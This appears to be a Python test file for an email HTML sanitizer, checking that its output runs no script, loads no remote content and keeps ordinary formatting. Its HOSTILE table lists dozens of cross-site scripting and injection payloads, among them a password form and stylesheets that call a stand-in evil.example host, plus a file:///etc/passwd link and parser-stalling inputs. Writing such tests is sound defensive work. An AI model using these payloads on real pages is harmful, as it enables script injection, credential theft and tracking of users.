"""Whatever HTML comes in, what goes out runs nothing, fetches nothing and leads nowhere inside."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from webcare.channels.html import safe, shown

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": "<script/x src=//evil.example/x.js></script>",
    "unclosed script": "<script>alert(1)//",
    "handler": "<img src=x onerror=alert(1)>",
    "handler without quotes or spaces": "<img/src=x/onerror=alert(1)>",
    "handler after a broken attribute": '<p title="</p><img src=x onerror=alert(1)>">',
    "handler on body": "<body onload=alert(1)>",
    "handler with entities": "<a onmouseover&#61;alert(1) href='https://x.example'>x</a>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link with entities": '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>',
    "javascript link with white space": '<a href=" \n\tjava\tscript\n:alert(1)">x</a>',
    "javascript link with control characters": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript link in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "link into our house": '<a href="/settings/people/1/delete">x</a><a href="//evil.example">y</a><a href="?a=b">z</a>',
    "file link": '<a href="file:///etc/passwd">x</a>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "svg image": "<svg><image href='https://evil.example/x'></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "mathml link": '<math href="javascript:alert(1)">x</math>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/"><a href="x">x</a>',
    "form": "<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>",
    "button that submits elsewhere": "<button formaction=javascript:alert(1) type=submit>x</button>",
    "style": "<style>*{background:url(https://evil.example)}</style>",
    "style attribute": '<p style="background:url(https://evil.example);position:fixed;inset:0">x</p>',
    "css expression": '<p style="width:expression(alert(1))">x</p>',
    "css import": "<style>@import 'https://evil.example/x.css';</style>",
    "stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "remote image": '<img src="https://evil.example/pixel.gif">',
    "image without a scheme": '<img src="//evil.example/pixel.gif">',
    "source set": '<img srcset="https://evil.example/1.png 1x" sizes="1px"><picture><source srcset=//evil.example></picture>',
    "image in data": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "background": '<table background="https://evil.example/x.gif"><td background=//evil.example>x</table>',
    "poster": '<video poster="https://evil.example/x.gif" src=//evil.example></video><audio src=//evil.example></audio>',
    "frame": '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=//e>',
    "object": '<object data="https://evil.example"></object><embed src=//evil.example><applet code=x></applet>',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "title that ends early": '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    "textarea that ends early": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "comment that ends early": '<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)> -->',
    "conditional comment": "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "mutation by paragraph": "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "mutation by form in math": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "mutation by select": "<select><template><style><!--</style><a rel=\"--></style></select><img src=x onerror=alert(1)>\">",
    "mutation by annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "mutation by desc": "<svg><desc><style><img title='</style><img src=x onerror=alert(1)>'></style></desc></svg>",
    "backquotes": "<img src=x alt=``onerror=alert(1)>",
    "nul in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x on\x00error=alert(1)>",
    "ids that shadow ours": '<a id="csrf" name="body" class="modal" data-action="delete">x</a>',
    "htmx": '<div hx-get="/cases/1" hx-trigger="load" data-hx-post="/x">x</div>',
    "contenteditable": "<p contenteditable autofocus tabindex=1 onfocus=alert(1)>x</p>",
    "slot and part": "<p slot=x part=y is=z>x</p><x-element>y</x-element>",
    "phishing marker of ours": '<div data-blocked-images="99"><p>x</p></div>',
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "half a tag": "<a href='https://x.example' ",
    "dir": '<p dir="rtl" dir=evil lang="x">x</p>',
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "align", "alt", "border", "cellpadding", "cellspacing", "colspan", "dir", "height", "href", "lang", "rel", "rowspan",
    "src", "start", "target", "title", "type", "valign", "value", "width",
}  # fmt: skip


class Inspector(HTMLParser):
    """Reads what came out as a browser's tokenizer would, and notes everything that must not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.tree: list[object] = []

    def handle_data(self, data: str) -> None:
        self.tree.append(data)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tree.append((tag, sorted(attrs, key=str)))
        if tag in ("script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "meta",
                   "base", "link", "template", "noscript", "video", "audio", "select", "textarea", "title"):  # fmt: skip
            self.faults.append(tag)
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES:
                self.faults.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(?i:https?://|mailto:|tel:)", value or ""):
                self.faults.append(f"href {value}")
            if name == "src" and not re.match(r"cid:|/files/", value or ""):
                self.faults.append(f"src {value}")
        given = dict(attrs)
        if tag == "a" and (given.get("target"), given.get("rel")) != ("_blank", "noopener nofollow noreferrer"):
            self.faults.append(f"link {given}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


def inspected(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def faults(html: str) -> list[str]:
    """What is wrong with HTML that claims to be safe."""
    return inspected(html).faults


def tree(html: str) -> list[object]:
    """Elements and texts in their order; attributes have none."""
    return inspected(html).tree


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_nothing_hostile_gets_through(html: str) -> None:
    out = safe(html).html
    assert faults(out) == []
    assert tree(safe(out).html) == tree(out)  # no second reading brings anything to life


@given(st.lists(st.sampled_from(list(HOSTILE.values())).map(lambda one: one[: len(one) * 2 // 3]), max_size=6))
@settings(max_examples=300, deadline=None)
def test_nothing_hostile_gets_through_in_pieces(pieces: list[str]) -> None:
    out = safe("".join(pieces), {"a": "/files/1"}).html
    assert faults(out) == []


@given(st.text("<>/=\"'` \n-!?&;:#sx(){}\x00ascriptonimgvbtylehrfdmu0123", max_size=200))
@settings(max_examples=500, deadline=None)
def test_no_random_markup_gets_through(html: str) -> None:
    assert faults(safe(html).html) == []


def test_what_people_write_stays() -> None:
    html = (
        '<p dir="rtl" lang="he">שלום <b>x</b> <i>y</i></p><ul><li>a</li></ul><blockquote>q</blockquote>'
        '<table border="1"><tbody><tr><td colspan="2">c</td></tr></tbody></table>'
    )
    assert safe(html).html == html


def test_links_lead_outside_and_tell_nothing() -> None:
    html = safe('<a href="https://example.test/?a=1&amp;b=2" target="_top" rel="opener">x</a>').html
    assert 'href="https://example.test/?a=1&amp;b=2"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener nofollow noreferrer"' in html
    assert "_top" not in html


def test_remote_images_are_counted_and_those_that_came_along_shown() -> None:
    mail = safe(
        '<img src="cid:one" alt="x"><img src="https://t.example/1"><img src="//t.example/2">', {"one": "cid:one"}
    )
    assert mail.blocked_images == 2
    page = shown(mail.stored, {"one": "/files/7"})
    assert page.blocked_images == 2
    assert page.html == '<img src="/files/7" alt="x"><img><img>'
    assert "data-" not in page.html


def test_a_mail_cannot_claim_blocked_images_of_its_own() -> None:
    mail = safe('<div data-blocked-images="99"><img src="https://t.example/1"></div>')
    assert shown(mail.stored, {}).blocked_images == 1


def test_a_picture_that_is_gone_is_left_out() -> None:
    assert shown(safe('<img src="cid:one">', {"one": "cid:one"}).stored, {}).html == "<img>"


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000, "<div>" * 100_000 + "</div>" * 100_000, "<b>" * 200_000, "<" * 600_000, "<!--" * 100_000,
        "<a><b></a>" * 60_000, "<table>" * 80_000, "<p " + "a=1 " * 100_000 + ">", "&#0;" * 100_000,
        "".join(f"<b a={n}>" for n in range(3_000)) + "<p>x</p>" * 50_000,
    ],
    ids=["deep", "deep and closed", "bold", "less than", "comments", "crossed", "tables", "attributes", "entities", "open"],
)  # fmt: skip
def test_html_made_to_stall_its_reader_is_done_with(html: str) -> None:
    assert faults(safe(html + "hello").html) == []


def test_the_text_of_a_tree_too_deep_is_kept() -> None:
    assert "Where is my bag &amp; coat" in safe("<div>" * 50_000 + "Where is my bag &amp; coat").html
